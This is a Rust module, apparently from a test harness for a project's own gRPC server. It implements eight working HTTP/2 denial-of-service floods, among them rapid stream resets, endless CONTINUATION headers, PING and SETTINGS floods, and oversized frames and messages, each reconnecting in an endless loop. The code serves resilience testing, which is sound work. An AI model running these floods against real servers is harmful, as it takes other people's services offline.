//! Floods of frames that are cheap to send and cost a server something.

use std::io;
use std::time::Duration;

use kahua_proto::pb::arena::v1::bot_service_server::SERVICE_NAME as BOTS;
use kahua_proto::pb::arena::v1::league_service_server::SERVICE_NAME as LEAGUES;
use tokio::time::timeout;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, NO_FLAGS, PING, RST_STREAM, RawHttp2, SETTINGS, call_headers, frame,
    header,
};
use super::target::{Attack, Target};

pub(super) const ATTACKS: [Attack; 8] = [
    Attack { name: "streams that are reset at once", run: |target| Box::pin(flood(target, reset_streams)) },
    Attack { name: "streams beyond the limit", run: |target| Box::pin(flood(target, too_many_streams)) },
    Attack { name: "headers without end", run: |target| Box::pin(flood(target, endless_headers)) },
    Attack { name: "pings", run: |target| Box::pin(flood(target, pings)) },
    Attack { name: "settings", run: |target| Box::pin(flood(target, settings)) },
    Attack { name: "empty data", run: |target| Box::pin(flood(target, empty_data)) },
    Attack { name: "frames that are too large", run: |target| Box::pin(flood(target, huge_frames)) },
    Attack { name: "messages that are too large", run: |target| Box::pin(flood(target, huge_messages)) },
];

/// How many frames are sent in one piece.
const PIECE: usize = 100;

/// For how long a connection is used if the arena doesn't end it.
const CONNECTION_TIME: Duration = Duration::from_millis(500);

/// The next piece of a flood, on an unused stream.
type Piece = fn(&mut RawHttp2, &Target) -> Vec<u8>;

/// Sends one piece after another. When the arena ends a connection, it opens a new one.
async fn flood(target: Target, piece: Piece) {
    loop {
        let _cut_off = timeout(CONNECTION_TIME, flood_once(&target, piece)).await;
    }
}

async fn flood_once(target: &Target, piece: Piece) -> io::Result<()> {
    let mut connection = RawHttp2::connect(target.addr).await?;
    loop {
        let bytes = piece(&mut connection, target);
        connection.send(&bytes).await?;
        target.strike();
        tokio::task::yield_now().await;
    }
}

fn standings(connection: &mut RawHttp2, target: &Target) -> (u32, Vec<u8>) {
    let stream = connection.new_stream();
    let headers = call_headers(&format!("/{LEAGUES}/GetStandings"), &target.token);
    (stream, frame(HEADERS, END_HEADERS, stream, &headers))
}

fn reset_streams(connection: &mut RawHttp2, target: &Target) -> Vec<u8> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let one = |_| {
        let (stream, opened) = standings(connection, target);
        [opened, frame(RST_STREAM, NO_FLAGS, stream, &CANCEL)].concat()
    };
    (0..PIECE).flat_map(one).collect()
}

fn too_many_streams(connection: &mut RawHttp2, target: &Target) -> Vec<u8> {
    (0..PIECE).flat_map(|_| standings(connection, target).1).collect()
}

fn endless_headers(connection: &mut RawHttp2, target: &Target) -> Vec<u8> {
    let stream = connection.new_stream();
    let headers = call_headers(&format!("/{BOTS}/Play"), &target.token);
    let more = frame(CONTINUATION, NO_FLAGS, stream, &header("x-more", &"x".repeat(100)));
    [frame(HEADERS, NO_FLAGS, stream, &headers), more.repeat(PIECE)].concat()
}

fn pings(_connection: &mut RawHttp2, _target: &Target) -> Vec<u8> {
    frame(PING, NO_FLAGS, 0, &[0; 8]).repeat(PIECE)
}

/// Sends another window size each time, so that the arena has to change something.
fn settings(connection: &mut RawHttp2, _target: &Target) -> Vec<u8> {
    const INITIAL_WINDOW_SIZE: [u8; 2] = [0, 4];
    let one = |_| {
        let size = (1000 + connection.new_stream() % 1000).to_be_bytes();
        frame(SETTINGS, NO_FLAGS, 0, &[&INITIAL_WINDOW_SIZE[..], &size].concat())
    };
    (0..PIECE).flat_map(one).collect()
}

fn empty_data(connection: &mut RawHttp2, target: &Target) -> Vec<u8> {
    let (stream, opened) = standings(connection, target);
    [opened, frame(DATA, NO_FLAGS, stream, &[]).repeat(PIECE)].concat()
}

/// Sixteen times as large as the arena accepts.
fn huge_frames(connection: &mut RawHttp2, target: &Target) -> Vec<u8> {
    let (stream, opened) = standings(connection, target);
    [opened, frame(DATA, NO_FLAGS, stream, &[0; 16 * 16_384])].concat()
}

/// Announces a message of four gigabytes, and begins to send it.
fn huge_messages(connection: &mut RawHttp2, target: &Target) -> Vec<u8> {
    let (stream, opened) = standings(connection, target);
    let announced = frame(DATA, NO_FLAGS, stream, &[0, 255, 255, 255, 255]);
    [opened, announced, frame(DATA, NO_FLAGS, stream, &[0; 16_000]).repeat(3)].concat()
}
